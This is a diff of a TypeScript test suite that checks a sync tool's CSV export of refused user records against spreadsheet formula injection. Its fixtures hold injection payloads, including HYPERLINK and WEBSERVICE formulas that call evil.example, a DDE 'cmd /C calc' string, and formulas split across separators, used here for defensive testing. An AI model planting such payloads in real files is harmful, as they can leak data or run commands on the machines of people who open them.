@@ -18,13 +18,16 @@ import { unsyncedCsv, unsyncedJsonLines } from "./unsynced-export.ts";
 
 const PEOPLE = 200;
 const actor = { kind: "operator", id: "ada" } as const;
-/** Six reasons, each for another person; some names and answers are what a spreadsheet would compute. */
+/** Several reasons, each for another person; some names and answers are what a spreadsheet would compute. */
 const REFUSALS = [
   { name: '=HYPERLINK("http://evil.example?"&A1;"Ana")', status: 400, detail: "The title is too long." },
   { name: "+1+1", status: 409, detail: "Another account has this number." },
   { name: "-2+3+cmd|' /C calc'!A0", status: 403, detail: "Administrators cannot be changed." },
   { name: "@SUM(1+1)", status: 422, detail: '=WEBSERVICE("http://evil.example")' },
   { name: 'Quote " and, comma', status: 501, detail: "Titles are not supported\r\nhere." },
+  // What computes where another separator, or a line break, cuts the cell in two.
+  { name: 'a;=HYPERLINK("http://evil.example";"click");b', status: 422, detail: "Cut;=1+1\tor\t+2+2|-3+3" },
+  { name: 'a; "=2+3" ;"" =4+4', status: 422, detail: 'Or "so" ;"=1+1"' },
   { name: "Ünï Çode", status: 500, detail: "Something broke." },
 ] as const;
 
@@ -34,7 +37,7 @@ let sync: string;
 let refused: readonly GraphUser[];
 afterEach(() => scene?.close());
 
-/** Everybody gets another title, which the target refuses of six people in two hundred. */
+/** Everybody gets another title, which the target refuses of eight people in two hundred. */
 async function refuseSome(): Promise<Awaited<ReturnType<Scene["run"]>>> {
   clock = testClock();
   refused = REFUSALS.map(({ name }, at) => person(`Refused ${at}`, { displayName: name }));
@@ -62,9 +65,9 @@ async function textOf(pieces: AsyncGenerator<string>): Promise<string> {
   return text;
 }
 
-test("of a target that refuses three in a hundred for six reasons the others are in step, and six are listed with a sentence", async () => {
+test("of a target that refuses four in a hundred for several reasons the others are in step, and those are listed with a sentence", async () => {
   const run = await refuseSome();
-  assert.deepEqual([run.result, run.counts.update, run.failed], ["partial", PEOPLE - 6, 6]);
+  assert.deepEqual([run.result, run.counts.update, run.failed], ["partial", PEOPLE - 8, 8]);
   const listed = await unsyncedRecords(scene.store, { sync, limit: 100 });
   assert.deepEqual(listed.map(({ id }) => id).sort(), refused.map(({ id }) => String(id)).sort());
   for (const [at, { detail }] of REFUSALS.entries()) {
@@ -94,7 +97,7 @@ test("of a target that refuses three in a hundred for six reasons the others are
   scene.disturb(null);
   clock.advance(5 * MINUTE);
   const mended = await scene.run(sync);
-  assert.deepEqual([mended.result, mended.counts.update], ["succeeded", 6]);
+  assert.deepEqual([mended.result, mended.counts.update], ["succeeded", 8]);
   assert.deepEqual(await unsyncedRecords(scene.store, { sync, limit: 100, filter: { state: "all" } }), []);
 });
 
@@ -102,7 +105,7 @@ test("the CSV of unsynced records follows RFC 4180, and a line of JSON holds the
   await refuseSome();
   const csv = await textOf(unsyncedCsv(scene.store, { sync, bom: true }));
   assert.ok(csv.startsWith("\uFEFFName,User principal name,Object id,State,"));
-  assert.equal(csv.split("\r\n").length, 1 + 6 + 1);
+  assert.equal(csv.split("\r\n").length, 1 + 8 + 1);
   assert.ok(csv.includes('"Quote "" and, comma",'));
   assert.ok(csv.includes("\r\n'+1+1,"));
   assert.doesNotMatch(csv, /(^|,|\n)"?[=+@-]/m);
@@ -118,9 +121,12 @@ test("a spreadsheet that opens the CSV of unsynced records computes nothing", {
   const folder = await mkdtemp(join(tmpdir(), "entrain-sheet-"));
   try {
     const csv = await textOf(unsyncedCsv(scene.store, { sync, bom: true }));
+    for (const separators of SEPARATORS) {
+      const opened = await openInSpreadsheet(folder, "unsynced", csv, separators);
+      assert.deepEqual(opened.match(/table:formula="[^"]*"/g), null, separators);
+      assert.ok(opened.includes("Ünï Çode"));
+    }
     const opened = await openInSpreadsheet(folder, "unsynced", csv);
-    assert.deepEqual(opened.match(/table:formula="[^"]*"/g), null);
-    assert.ok(opened.includes("Ünï Çode"));
     for (const text of ["'+1+1", "'@SUM(1+1)"])
       assert.ok(opened.includes(text) || opened.includes(text.slice(1)), text);
     // The same names as they are would be computed.
@@ -135,14 +141,17 @@ test("a spreadsheet that opens the CSV of unsynced records computes nothing", {
   }
 });
 
+/** Comma, semicolon, tab, bar, and what LibreOffice takes together unless it is told otherwise; as its filter wants them. */
+const SEPARATORS = ["44", "59", "9", "124", "44/59/9"] as const;
+
 /** What LibreOffice holds after it opened a CSV file, as flat XML. */
-async function openInSpreadsheet(folder: string, name: string, csv: string): Promise<string> {
+async function openInSpreadsheet(folder: string, name: string, csv: string, separators = "44"): Promise<string> {
   const office = libreOfficeAvailable();
   assert.ok(office.available);
   await writeFile(join(folder, `${name}.csv`), csv);
   const own = `-env:UserInstallation=file://${join(folder, "profile")}`;
-  // Comma, double quote, UTF-8, from the first line on.
-  const way = ["--headless", own, "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", folder];
+  // Double quote, UTF-8, from the first line on.
+  const way = ["--headless", own, `--infilter=CSV:${separators},34,76,1`, "--convert-to", "fods", "--outdir", folder];
   await promisify(execFile)(office.executable, [...way, join(folder, `${name}.csv`)], { timeout: 120_000 });
   return await readFile(join(folder, `${name}.fods`), "utf8");
 }
@@ -153,14 +162,14 @@ test("ignored records are told apart, count in no run, and are tried when they c
   assert.ok(ana !== undefined && bo !== undefined);
   await ignoreRecords(scene.store, sync, { actor, records: [ana], note: "Leaves in May." });
   const { unsynced, ignored } = (await syncStatus(scene.store, sync)) ?? {};
-  assert.deepEqual([unsynced, ignored], [5, 1]);
+  assert.deepEqual([unsynced, ignored], [7, 1]);
   const [view, ...more] = await unsyncedRecords(scene.store, { sync, limit: 10, filter: { state: "ignored" } });
   assert.deepEqual([view?.id, view?.retryAt, more.length], [ana, null, 0]);
   assert.match(view?.sentence ?? "", /ada has it ignored: Leaves in May\./);
   assert.doesNotMatch(`${view?.sentence} ${view?.fix}`, /tried again later/);
   assert.match(view?.fix ?? "", /`entrain sync ignore people --record \S+ --undo`/);
   clock.advance(DAY);
-  assert.equal((await scene.run(sync)).failed, 5);
+  assert.equal((await scene.run(sync)).failed, 7);
   await scene.graph("PATCH", `/users/${ana}`, { jobTitle: "Boss" });
   clock.advance(1000);
   const changed = await scene.run(sync);
